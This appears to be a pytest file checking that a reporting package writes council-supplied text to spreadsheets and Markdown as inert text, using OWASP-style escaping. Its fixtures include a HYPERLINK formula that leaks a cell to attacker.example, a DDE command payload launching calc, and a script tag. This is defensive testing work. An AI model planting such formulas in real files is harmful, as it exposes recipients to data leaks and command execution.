"""Text from a council's return never becomes a live formula or markup (issue 13 item 9): XLSX packs and the
package's csww.xlsx write text starting with = + - @ tab or CR with a leading ' (OWASP's CSV-injection
guidance); Markdown packs escape HTML."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import ROOT

from benchmark.build import build
from benchmark.cells import safe_text
from benchmark.cli import cli
from benchmark.local.store import list_returns, set_published
from benchmark.package import write_package

FX = Path(__file__).resolve().parent / "fixtures" / "report"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DEFINITION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """examples/darlington.csv with formulas for notes and two definitions, and HTML in a note."""
    folder = tmp_path_factory.mktemp("hostile")
    with open(ROOT / "examples" / "darlington.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    rows[1]["notes"] = FORMULA
    rows[1]["reported_vacancy_rate_fte_definition"] = FORMULA
    rows[1]["reported_turnover_rate_headcount_definition"] = DEFINITION
    rows[0]["notes"] = "<script>alert('pack')</script> & more"
    path = folder / "darlington.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _cells(path: Path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_safe_text_follows_owasp():
    assert [safe_text(x) for x in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert [safe_text(x) for x in ("Darlington", "-", "-3.5", 7, None)] == ["Darlington", "-", "-3.5", 7, None]


def test_no_formula_cell_in_the_pack_or_the_package_workbook(hostile, tmp_path):
    out = tmp_path / "out"
    build([FX / "indicators_north_east.csv"], out, local_files=[hostile])
    db = out / "csww.db"
    with sqlite3.connect(db) as conn:
        set_published(conn, [r["return_id"] for r in list_returns(conn)], True)
        conn.commit()
    write_package(db, out)
    pack = tmp_path / "pack.xlsx"
    r = CliRunner().invoke(cli, ["report", "--la", "841", "--local", str(hostile), "--db", str(db), "-o", str(pack)])
    assert r.exit_code == 0, r.output
    for workbook in (pack, out / "datapackage" / "csww.xlsx"):
        cells = _cells(workbook)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], workbook
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert "'" + FORMULA in texts and "'" + DEFINITION in texts, workbook    # kept, as inert text
    package_texts = [c.value for c in _cells(out / "datapackage" / "csww.xlsx") if isinstance(c.value, str)]
    assert any(t.startswith("council's note: " + FORMULA) for t in package_texts)  # the caveat, text already


def test_markdown_pack_escapes_html(hostile, tmp_path):
    out = tmp_path / "out"
    build([FX / "indicators_north_east.csv"], out)
    md = tmp_path / "pack.md"
    r = CliRunner().invoke(cli, ["report", "--la", "841", "--local", str(hostile), "--db", str(out / "csww.db"),
                                 "-o", str(md)])
    assert r.exit_code == 0, r.output
    text = md.read_text(encoding="utf-8")
    assert "<script>" not in text
    assert "&lt;script&gt;alert('pack')&lt;/script&gt; &amp; more" in text
